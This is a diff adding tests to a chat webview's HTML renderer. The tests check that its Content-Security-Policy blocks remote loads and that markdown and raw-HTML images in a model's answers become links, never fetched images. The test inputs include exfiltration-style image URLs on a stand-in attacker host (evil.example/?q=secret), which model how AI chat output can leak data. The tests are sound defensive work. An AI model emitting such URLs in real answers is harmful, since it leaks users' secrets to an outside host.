@@ -2,7 +2,7 @@ import assert from 'node:assert/strict';
 import { test } from 'node:test';
 
 import { Chat } from '../src/chatModel';
-import { escapeHtml, renderItems } from '../src/chatHtml';
+import { csp, escapeHtml, markdown, page, renderItems } from '../src/chatHtml';
 import type { TurnEventParams } from '../src/protocol';
 
 function ev(kind: string, fields: Record<string, unknown> = {}): TurnEventParams {
@@ -37,6 +37,47 @@ test('markdown is rendered but HTML in it is not', () => {
 	assert.match(html, /<strong>bold<\/strong>/);
 	assert.doesNotMatch(html, /<script>|<img/);
 	assert.equal(escapeHtml('<a href="x">'), '&lt;a href=&quot;x&quot;&gt;');
+});
+
+test('the page loads nothing remote: its CSP allows images only from the webview and data:', () => {
+	const source = 'https://file+.vscode-resource.vscode-cdn.net';
+	assert.equal(csp('N0NCE', source), `default-src 'none'; img-src ${source} data:; style-src ${source}; script-src 'nonce-N0NCE';`);
+	const html = page('N0NCE', source, 'vscode-webview://x/chat.js', 'vscode-webview://x/chat.css');
+	const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/);
+	assert.equal(meta?.[1], csp('N0NCE', source));
+	assert.doesNotMatch(meta![1], /https:(?!\/\/file\+)|http:|\*/);
+});
+
+test("the model's images are links to click, never fetched", () => {
+	const answer = [
+		'Here: ![the secret](https://evil.example/?q=secret) and ![](http://evil.example/plain)',
+		'',
+		'Reference: ![ref img][r] and [![badge](https://evil.example/badge.svg)](https://example.com/site)',
+		'',
+		'Inline <img src="https://evil.example/raw.png"> and a data one ![d](data:image/png;base64,AAAA)',
+		'',
+		'<img src="https://evil.example/block.png">',
+		'',
+		'[r]: https://evil.example/ref?q=secret "t"',
+	].join('\n');
+	const c = new Chat();
+	c.apply(ev('turnStarted', { text: '![you](https://evil.example/you.png)' }));
+	c.apply(ev('answerDelta', { text: answer }));
+	const html = renderItems(c.items);
+	assert.doesNotMatch(html, /<img/i, html);
+	assert.match(html, /<a class="image-link" href="https:\/\/evil\.example\/\?q=secret" title="https:\/\/evil\.example\/\?q=secret">🖼 the secret<\/a>/);
+	assert.match(html, /<a class="image-link" href="http:\/\/evil\.example\/plain"[^>]*>🖼 http:\/\/evil\.example\/plain<\/a>/);
+	assert.match(html, /<a class="image-link" href="https:\/\/evil\.example\/ref\?q=secret"[^>]*>🖼 ref img<\/a>/);
+	assert.match(html, /<a class="image-link" href="https:\/\/evil\.example\/you\.png"[^>]*>🖼 you<\/a>/);
+	// A badge inside a link is the link's words: links do not nest.
+	assert.match(html, /<a href="https:\/\/example\.com\/site">🖼 badge<\/a>/);
+	// A data: image is words only.
+	assert.match(html, /and a data one 🖼 d<\/p>/);
+	assert.match(html, /Inline &lt;img src=&quot;/);
+	// Were html turned on, raw HTML would still be text.
+	const on = markdown(true).render('a <img src="https://evil.example/i.png"> b\n\n<img src="https://evil.example/b.png">\n');
+	assert.doesNotMatch(on, /<img/i, on);
+	assert.match(on, /&lt;img src=&quot;https:\/\/evil\.example\/b\.png&quot;&gt;/);
 });
 
 test('an approval waiting shows its buttons, Deny first', () => {
